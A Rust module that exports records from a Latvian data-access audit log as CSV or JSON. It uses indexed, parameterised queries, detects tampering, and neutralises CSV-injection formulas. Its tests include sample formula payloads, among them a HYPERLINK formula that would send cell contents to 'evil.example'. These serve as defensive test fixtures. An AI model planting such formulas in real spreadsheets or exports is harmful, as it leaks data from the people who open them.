//! `audit export`: the records that answer a written request — by personal code asked about
//! ("who looked at my data"), by operator, by consumer, by time range, by the purpose stated —
//! as CSV or JSON lines, UTF-8 with Latvian diacritics intact, oldest first. Each filter but the
//! purpose becomes an indexed condition; none of them makes the query scan two years of
//! records. The purpose narrows what they select (alone, it reads the whole log).

use std::io::Write;

use chrono::{DateTime, Utc};

use super::backend::StoredLog;
use super::error::AuditStoreError;
use super::record::{canonical_person_code, format_time, AuditRecord};

/// Which records to export; every given condition must hold.
#[derive(Debug, Clone, Default)]
pub struct ExportFilter {
    /// The personal code asked about (any spelling of a valid code).
    pub person: Option<String>,
    /// The operator's personal code.
    pub operator: Option<String>,
    /// The consumer's id.
    pub consumer: Option<String>,
    /// Calls received at or after this time…
    pub from: Option<DateTime<Utc>>,
    /// …and before or at this one.
    pub till: Option<DateTime<Utc>>,
    /// Text the stated purpose holds: its legal basis or its case number contains it, letter
    /// case ignored. Records written before purposes were recorded (version 1) hold none.
    pub purpose: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFormat {
    Csv,
    /// One JSON object per line.
    Json,
}

/// A parameter of the export query, whichever backend runs it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Param {
    Text(String),
    Integer(i64),
}

/// How the backend numbers its parameters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Placeholder {
    /// SQLite's `?1`.
    Question,
    /// PostgreSQL's `$1`.
    Dollar,
}

impl ExportFilter {
    /// The WHERE clause and its parameters.
    fn sql(&self, placeholder: Placeholder) -> (String, Vec<Param>) {
        let mut conditions = Vec::new();
        let mut values = Vec::new();
        let mut condition = |sql: &str, value: Param| {
            values.push(value);
            let mark = match placeholder {
                Placeholder::Question => '?',
                Placeholder::Dollar => '$',
            };
            conditions.push(format!("{sql} {mark}{}", values.len()));
        };
        if let Some(person) = &self.person {
            condition("person_code =", Param::Text(canonical_person_code(person)));
        }
        if let Some(operator) = &self.operator {
            condition("operator_person_code =", Param::Text(canonical_person_code(operator)));
        }
        if let Some(consumer) = &self.consumer {
            condition("consumer_id =", Param::Text(consumer.trim().to_string()));
        }
        if let Some(from) = self.from {
            condition("received_at_micros >=", Param::Integer(from.timestamp_micros()));
        }
        if let Some(till) = self.till {
            condition("received_at_micros <=", Param::Integer(till.timestamp_micros()));
        }
        let clause = if conditions.is_empty() { String::new() } else { format!(" WHERE {}", conditions.join(" AND ")) };
        (clause, values)
    }

    /// The export query, selecting `columns`, and its parameters.
    pub(crate) fn query(&self, columns: &str, placeholder: Placeholder) -> (String, Vec<Param>) {
        let (clause, values) = self.sql(placeholder);
        (format!("SELECT {columns} FROM audit_records{clause} ORDER BY received_at_micros, seq"), values)
    }

    /// Whether `record`'s stated purpose holds the text asked for (always, when none is).
    pub(crate) fn purpose_matches(&self, record: &AuditRecord) -> bool {
        let Some(wanted) = self.purpose.as_deref().map(|text| text.trim().to_lowercase()) else { return true };
        [&record.purpose_legal_basis, &record.purpose_case_number]
            .into_iter()
            .any(|stated| stated.as_deref().is_some_and(|stated| stated.to_lowercase().contains(&wanted)))
    }

    /// Whether `record` itself meets every condition of the query (all but the purpose). The SQLite log selects by copies of the
    /// fields (its indexed columns); a copy altered to disagree with its record must neither
    /// hand one person's record to another's request nor pass unnoticed.
    pub(crate) fn matches(&self, record: &AuditRecord) -> bool {
        let same = |wanted: &Option<String>, stored: &Option<String>, canonical: fn(&str) -> String| {
            wanted.as_deref().is_none_or(|wanted| stored.as_deref() == Some(canonical(wanted).as_str()))
        };
        same(&self.person, &record.person_code, canonical_person_code)
            && same(&self.operator, &record.operator_person_code, canonical_person_code)
            && same(&self.consumer, &record.consumer_id, |consumer| consumer.trim().to_string())
            && self.from.is_none_or(|from| record.received_at >= from)
            && self.till.is_none_or(|till| record.received_at <= till)
    }
}

/// Column names of the CSV export, in field order.
pub(crate) const CSV_HEADER: [&str; 27] = [
    "seq", "record_id", "received_at", "message_id", "transaction_id", "correlation_id", "consumer_id", "consumer_name",
    "certificate_sha256", "certificate_subject", "client_ip", "environment", "operator_first_name", "operator_surname",
    "operator_person_code", "ivis_sender", "service", "request_style", "soap_version", "person_code", "outcome",
    "records_returned", "processing_micros", "purpose_legal_basis", "purpose_case_number", "bulk_prepared_by",
    "administrative",
];

/// Writes the records of `log` that `filter` selects to `out`; returns how many. A selected
/// record that does not itself meet the filter stops the export: the search columns it was
/// selected by were altered.
pub(crate) fn export(log: &mut impl StoredLog, filter: &ExportFilter, format: ExportFormat, out: &mut dyn Write) -> Result<u64, AuditStoreError> {
    log.walk_selected(filter, |records| {
        let checked = records
            .map(|record| record.and_then(|record| match filter.matches(&record) {
                true => Ok(record),
                false => Err(altered_search_columns(record.seq)),
            }))
            .filter(|record| record.as_ref().map_or(true, |record| filter.purpose_matches(record)));
        write_records(checked, format, out)
    })?
}

/// A record selected by search columns that disagree with it.
pub(crate) fn altered_search_columns(seq: i64) -> AuditStoreError {
    AuditStoreError::Unreadable(format!(
        "the record at seq {seq} does not match its search columns: the audit log was altered there (run `audit verify`)"
    ))
}

/// Writes `records` (in export order) to `out` in `format`; returns how many.
pub(crate) fn write_records(
    records: impl Iterator<Item = Result<AuditRecord, AuditStoreError>>,
    format: ExportFormat,
    out: &mut dyn Write,
) -> Result<u64, AuditStoreError> {
    let written = |error: csv::Error| AuditStoreError::Io(error.to_string());
    let mut count = 0;
    match format {
        ExportFormat::Csv => {
            let mut csv = csv::Writer::from_writer(out);
            csv.write_record(CSV_HEADER).map_err(written)?;
            for record in records {
                csv.write_record(csv_fields(&record?).iter().map(|cell| spreadsheet_safe(cell).into_owned())).map_err(written)?;
                count += 1;
            }
            csv.flush()?;
        }
        ExportFormat::Json => {
            for record in records {
                serde_json::to_writer(&mut *out, &record?).map_err(|error| AuditStoreError::Io(error.to_string()))?;
                out.write_all(b"\n")?;
                count += 1;
            }
            out.flush()?;
        }
    }
    Ok(count)
}

/// A cell as a spreadsheet will show it, never evaluate it (OWASP's rule for CSV injection):
/// one that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
/// The fields come from callers (an operator's name, a certificate subject), so a name such
/// as `=HYPERLINK(…)` must reach whoever opens the export as text.
pub(crate) fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => std::borrow::Cow::Owned(format!("'{cell}")),
        _ => std::borrow::Cow::Borrowed(cell),
    }
}

fn csv_fields(record: &AuditRecord) -> Vec<String> {
    let optional = |value: &Option<String>| value.clone().unwrap_or_default();
    vec![
        record.seq.to_string(),
        record.record_id.to_string(),
        format_time(&record.received_at),
        optional(&record.message_id),
        optional(&record.transaction_id),
        optional(&record.correlation_id),
        optional(&record.consumer_id),
        optional(&record.consumer_name),
        record.certificate_sha256.clone(),
        record.certificate_subject.clone(),
        record.client_ip.clone(),
        record.environment.clone(),
        optional(&record.operator_first_name),
        optional(&record.operator_surname),
        optional(&record.operator_person_code),
        optional(&record.ivis_sender),
        record.service.clone(),
        optional(&record.request_style),
        optional(&record.soap_version),
        optional(&record.person_code),
        record.outcome.clone(),
        record.records_returned.to_string(),
        record.processing_micros.to_string(),
        optional(&record.purpose_legal_basis),
        optional(&record.purpose_case_number),
        optional(&record.bulk_prepared_by),
        optional(&record.administrative),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_exported_as_text() {
        for (cell, exported) in [
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Anna", "Anna"),
            ("Liepiņa", "Liepiņa"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell), exported, "{cell:?}");
        }
        let mut record = crate::audit::record::tests::example(1);
        record.operator_first_name = Some("=HYPERLINK(\"http://evil.example\",\"x\")".into());
        record.operator_surname = Some("@cmd".into());
        let mut out = Vec::new();
        write_records(std::iter::once(Ok(record)), ExportFormat::Csv, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let row = text.lines().nth(1).unwrap();
        assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\""), "{row}");
        assert!(row.contains(",'@cmd,"), "{row}");
        assert!(!row.contains(",=") && !row.contains(",@"), "{row}");
    }

    #[test]
    fn the_purpose_filter_finds_its_text_in_the_legal_basis_or_the_case_number() {
        let record = crate::audit::record::tests::example(1);
        let filter = |text: &str| ExportFilter { purpose: Some(text.into()), ..Default::default() };
        for found in ["9. PANTS", "sociālo pakalpojumu", "sd-2026/1417", " 1417 "] {
            assert!(filter(found).purpose_matches(&record), "{found}");
        }
        for missed in ["10. pants", "SD-2025"] {
            assert!(!filter(missed).purpose_matches(&record), "{missed}");
        }
        assert!(!filter("pants").purpose_matches(&crate::audit::record::tests::example_v1(1)), "a version-1 record states no purpose");
        assert!(ExportFilter::default().purpose_matches(&crate::audit::record::tests::example_v1(1)));
    }

    #[test]
    fn every_filter_is_answered_from_an_index() {
        let dir = tempfile::tempdir().unwrap();
        let connection = crate::audit::sqlite::open_for_writing(&dir.path().join("audit.sqlite3")).unwrap();
        let from = DateTime::from_timestamp(1_700_000_000, 0);
        let filters = [
            ExportFilter { person: Some("150342-10121".into()), ..Default::default() },
            ExportFilter { operator: Some("120379-10015".into()), from, ..Default::default() },
            ExportFilter { consumer: Some("90011524360".into()), till: from, ..Default::default() },
            ExportFilter { from, ..Default::default() },
        ];
        for filter in filters {
            let (sql, values) = filter.query("seq, encoded", Placeholder::Question);
            let mut statement = connection.prepare(&format!("EXPLAIN QUERY PLAN {sql}")).unwrap();
            let plan: Vec<String> = statement
                .query_map(rusqlite::params_from_iter(crate::audit::sqlite::stored::sqlite_values(values)), |row| row.get::<_, String>(3))
                .unwrap()
                .map(Result::unwrap)
                .collect();
            assert!(plan.iter().any(|step| step.contains("USING INDEX")), "{filter:?}: {plan:?}");
            assert!(!plan.iter().any(|step| step.starts_with("SCAN")), "{filter:?}: {plan:?}");
        }
    }
}
